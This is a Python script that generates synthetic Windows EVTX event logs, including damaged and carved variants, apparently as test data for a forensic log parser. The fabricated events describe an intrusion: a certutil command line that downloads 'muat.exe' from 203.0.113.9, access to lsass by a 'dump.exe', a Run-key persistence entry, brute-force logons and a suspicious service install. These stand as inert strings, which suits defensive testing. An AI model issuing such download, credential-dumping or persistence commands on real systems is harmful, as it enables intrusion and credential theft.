#!/usr/bin/env python3
"""Makes testdata/artifact/sysmon.evtx: a small Windows event log with templates
of our own, written by the description of the format (J. Metz, Windows XML
Event Log (EVTX) format). `make interop` checks it with evtxexport.

With "lost" it makes a log with records in the slack of a chunk and in one whose
header is gone, and a record that stands alone, as carving gives it.

usage: evtx.py FILE
       evtx.py lost FOLDER
"""
import struct
import sys
import zlib

EPOCH = 116444736000000000  # 1970 in units of 100 ns since 1601


class Chunk:
    def __init__(self, lost=False):
        self.lost = lost
        self.places = []
        self.b = bytearray(512)
        self.names = {}
        self.first = self.last = None
        self.last_at = 0
        self.templates = {}

    def put(self, fmt, *v):
        self.b += struct.pack('<' + fmt, *v)

    def name(self, s):
        """An offset of a name, and the name itself where it is used first."""
        if s in self.names:
            self.put('I', self.names[s])
            return
        at = len(self.b) + 4
        self.names[s] = at
        h = 0
        for c in s:
            h = (h * 65599 + ord(c)) & 0xffffffff
        self.put('IIHH', at, 0, h & 0xffff, len(s))
        self.b += s.encode('utf-16le') + b'\0\0'

    def element(self, tag, attrs, inner):
        """attrs: name -> substitution (index, type) or text."""
        self.put('BH', 0x41 if attrs else 0x01, 0xffff)
        size_at = len(self.b)
        self.put('I', 0)
        self.name(tag)
        if attrs:
            attr_at = len(self.b)
            self.put('I', 0)
            for i, (k, v) in enumerate(attrs):
                self.put('B', 0x46 if i + 1 < len(attrs) else 0x06)
                self.name(k)
                self.value(v)
            struct.pack_into('<I', self.b, attr_at, len(self.b) - attr_at - 4)
        if inner is None:
            self.put('B', 0x03)
        else:
            self.put('B', 0x02)
            if callable(inner):
                inner()
            else:
                self.value(inner)
            self.put('B', 0x04)
        struct.pack_into('<I', self.b, size_at, len(self.b) - size_at - 4)

    def value(self, v):
        if isinstance(v, str):
            self.put('BBH', 0x05, 0x01, len(v))
            self.b += v.encode('utf-16le')
        else:
            index, typ = v
            self.put('BHB', 0x0e, index, typ)

    def event(self, provider, channel, computer, data):
        def system():
            self.element('Provider', [('Name', provider)], None)
            self.element('EventID', [], (0, 6))
            self.element('Version', [], (1, 4))
            self.element('Level', [], (2, 4))
            self.element('Keywords', [], (3, 21))
            self.element('TimeCreated', [('SystemTime', (4, 17))], None)
            self.element('EventRecordID', [], (5, 10))
            self.element('Execution', [('ProcessID', (6, 8)), ('ThreadID', (7, 8))], None)
            self.element('Channel', [], channel)
            self.element('Computer', [], computer)
            self.element('Security', [('UserID', (8, 19))], None)

        def body():
            for i, (k, typ) in enumerate(data):
                self.element('Data', [('Name', k)], (9 + i, typ))

        def root():
            self.element('System', [], system)
            self.element('EventData', [], body)

        self.element('Event', [('xmlns', 'http://schemas.microsoft.com/win/2004/08/events/event')], root)

    def number(self, key):
        """That of the template; Windows takes the beginning of its GUID."""
        if not self.lost:
            return 0x1000 + len(self.templates)
        return 0x5a4b0001 + (list(self.templates).index(key) if key in self.templates else len(self.templates))

    def record(self, number, filetime, key, system, values):
        """key: (provider, channel, computer, ((name, type), ...)); values: those of the data."""
        at = len(self.b)
        self.put('IIQQ', 0x2a2a, 0, number, filetime)
        self.b += b'\x0f\x01\x01\x00'
        self.put('BBI', 0x0c, 1, self.number(key))
        if key in self.templates:
            self.put('I', self.templates[key])
        else:
            def_at = len(self.b) + 4
            self.templates[key] = def_at
            self.put('II', def_at, 0)
            self.b += struct.pack('<IIII', 0x5a4b0000 + len(self.templates) if self.lost else 0x5a4b0001 + len(self.templates), 0, 0, 0)
            size_at = len(self.b)
            self.put('I', 0)
            self.b += b'\x0f\x01\x01\x00'
            self.event(*key)
            self.put('B', 0)
            struct.pack_into('<I', self.b, size_at, len(self.b) - size_at - 4)
        types = [6, 4, 4, 21, 17, 10, 8, 8, 19] + [t for _, t in key[3]]
        raw = [encode(t, v) for t, v in zip(types, system + values)]
        self.put('I', len(raw))
        for t, r in zip(types, raw):
            self.put('HBB', len(r), t if r else 0, 0)
        for r in raw:
            self.b += r
        self.put('B', 0)
        while (len(self.b) - at + 4) % 8:
            self.b += b'\0'
        size = len(self.b) - at + 4
        self.put('I', size)
        struct.pack_into('<I', self.b, at + 4, size)
        self.places.append((at, size))
        self.first = self.first or number
        self.last, self.last_at = number, at

    def bytes(self):
        free = len(self.b)
        self.b += bytes(65536 - free)
        struct.pack_into('<8sQQQQIIIII', self.b, 0, b'ElfChnk\0', self.first, self.last, self.first, self.last, 128, self.last_at, free,
                         zlib.crc32(self.b[512:free]), 0)
        struct.pack_into('<I', self.b, 124, zlib.crc32(bytes(self.b[:120]) + bytes(self.b[128:512])))
        return bytes(self.b)


def encode(typ, v):
    if v is None:
        return b''
    if typ == 1:
        return v.encode('utf-16le')
    if typ == 19:
        parts = [int(x) for x in v.split('-')[1:]]
        return struct.pack('<BB', parts[0], len(parts) - 2) + parts[1].to_bytes(6, 'big') + b''.join(struct.pack('<I', x) for x in parts[2:])
    if typ == 15:
        return bytes(v)
    return struct.pack('<' + {4: 'B', 6: 'H', 7: 'i', 8: 'I', 10: 'Q', 13: 'I', 17: 'Q', 20: 'I', 21: 'Q'}[typ], v)


def file(chunks, last):
    head = bytearray(4096)
    struct.pack_into('<8sQQQIHHHH', head, 0, b'ElfFile\0', 0, 0, last + 1, 128, 1, 3, 4096, len(chunks))
    struct.pack_into('<II', head, 120, 0, zlib.crc32(head[:120]))
    return head + b''.join(chunks)


def lost(folder):
    key = ('Microsoft-Windows-Security-Auditing', 'Security', 'WS-17.contoh.test', (('TargetUserName', 1), ('IpAddress', 1), ('LogonType', 8)))
    other = ('Service Control Manager', 'System', 'WS-17.contoh.test', (('ServiceName', 1), ('ImagePath', 1)))
    start = EPOCH + 1767225600 * 10_000_000

    def make(first):
        c = Chunk(True)
        for i in range(5):
            t = start + (first + i) * 10_000_000
            system = [7045 if i in (0, 3) else 4624, 0, 4, 0x8020000000000000, t, first + i, 700, 704, 'S-1-5-18']
            if i in (0, 3):
                c.record(first + i, t, other, system, ['jahat', 'C:\\Windows\\jahat.exe'])
            else:
                c.record(first + i, t, key, system, ['pentadbir', '198.51.100.23', 3])
        return c

    # The first says that its first two records are in use; the template that is in the first is overwritten in the second chunk, whose header is gone.
    c = make(1)
    whole = bytearray(c.bytes())
    free = c.places[1][0] + c.places[1][1]
    struct.pack_into('<QQQQIIIII', whole, 8, 1, 2, 1, 2, 128, c.places[1][0], free, zlib.crc32(whole[512:free]), 0)
    struct.pack_into('<I', whole, 124, zlib.crc32(bytes(whole[:120]) + bytes(whole[128:512])))
    d = make(11)
    gone = bytearray(d.bytes())
    gone[:d.places[0][0] + 90] = b'\xff' * (d.places[0][0] + 90)
    open(folder + '/lost.evtx', 'wb').write(file([bytes(whole), bytes(gone)], 15))
    at, size = c.places[0]
    open(folder + '/carved.evtxrecord', 'wb').write(bytes(c.b[at:at + size]))
    open(folder + '/carved.evtxchunk', 'wb').write(bytes(whole))


def main():
    if sys.argv[1] == 'lost':
        lost(sys.argv[2])
        return
    sysmon = ('Microsoft-Windows-Sysmon', 'Microsoft-Windows-Sysmon/Operational', 'WS-17.contoh.test')
    security = ('Microsoft-Windows-Security-Auditing', 'Security', 'WS-17.contoh.test')
    create = sysmon + ((('UtcTime', 1), ('ProcessGuid', 15), ('ProcessId', 8), ('Image', 1), ('CommandLine', 1), ('CurrentDirectory', 1), ('User', 1),
                        ('LogonId', 21), ('Hashes', 1), ('ParentProcessId', 8), ('ParentImage', 1), ('ParentCommandLine', 1)),)
    access = sysmon + ((('SourceProcessId', 8), ('SourceImage', 1), ('TargetProcessId', 8), ('TargetImage', 1), ('GrantedAccess', 20), ('CallTrace', 1)),)
    registry = sysmon + ((('EventType', 1), ('ProcessId', 8), ('Image', 1), ('TargetObject', 1), ('Details', 1)),)
    connect = sysmon + ((('ProcessId', 8), ('Image', 1), ('Initiated', 13), ('SourceIp', 1), ('SourcePort', 6), ('DestinationIp', 1), ('DestinationPort', 6)),)
    logon = security + ((('TargetUserSid', 19), ('TargetUserName', 1), ('TargetDomainName', 1), ('LogonType', 8), ('IpAddress', 1), ('IpPort', 1), ('Status', 20)),)
    made = security + ((('SubjectUserName', 1), ('SubjectLogonId', 21), ('NewProcessId', 21), ('NewProcessName', 1), ('CommandLine', 1), ('ProcessId', 21),
                        ('ParentProcessName', 1)),)
    c = Chunk()
    start = EPOCH + 1767225600 * 10_000_000  # 2026-01-01
    n = [0]

    def add(key, event_id, level, seconds, *values):
        n[0] += 1
        t = start + int(seconds * 10_000_000)
        keywords = 0x8020000000000000 if key[1] == 'Security' else 0x8000000000000000
        c.record(n[0], t, key, [event_id, 5, level, keywords, t, 1000 + n[0], 3308, 4008, 'S-1-5-18'], list(values))

    guid = bytes(range(16))
    add(create, 1, 4, 1.5, '2026-01-01 00:00:01.500', guid, 4242, 'C:\\Windows\\System32\\certutil.exe',
        'certutil  -urlcache -split -f http://203.0.113.9/muat.bin muat.exe', 'C:\\Users\\nurul\\', 'CONTOH\\nurul', 0x3e7,
        'MD5=' + 'AB' * 16 + ',SHA256=' + '0C' * 32, 4000, 'C:\\Windows\\System32\\cmd.exe', '"C:\\Windows\\system32\\cmd.exe"')
    add(access, 10, 4, 2, 4242, 'C:\\Users\\Public\\dump.exe', 860, 'C:\\Windows\\system32\\lsass.exe', 0x1fffff, 'C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4')
    add(registry, 13, 4, 3, 'SetValue', 4242, 'C:\\Windows\\system32\\reg.exe',
        'HKU\\S-1-5-21-1-2-3-1001\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\kemas', 'C:\\Users\\Public\\muat.exe')
    add(connect, 3, 4, 4.0000001, 4242, 'C:\\Windows\\System32\\certutil.exe', 1, '192.0.2.17', 50123, '203.0.113.9', 80)
    for i in range(6):
        add(logon, 4625, 0, 10 + i, 'S-1-0-0', 'pentadbir', 'CONTOH', 3, '198.51.100.23', str(40000 + i), 0xc000006d)
    add(logon, 4624, 0, 20, 'S-1-5-21-1-2-3-500', 'pentadbir', 'CONTOH', 3, '198.51.100.23', '40010', None)
    add(made, 4688, 0, 21, 'nurul', 0x3e7, 0x10a4, 'C:\\Windows\\System32\\whoami.exe', 'whoami /all', 0xfa0, 'C:\\Windows\\System32\\cmd.exe')
    with open(sys.argv[1], 'wb') as f:
        f.write(file([c.bytes()], n[0]))


main()
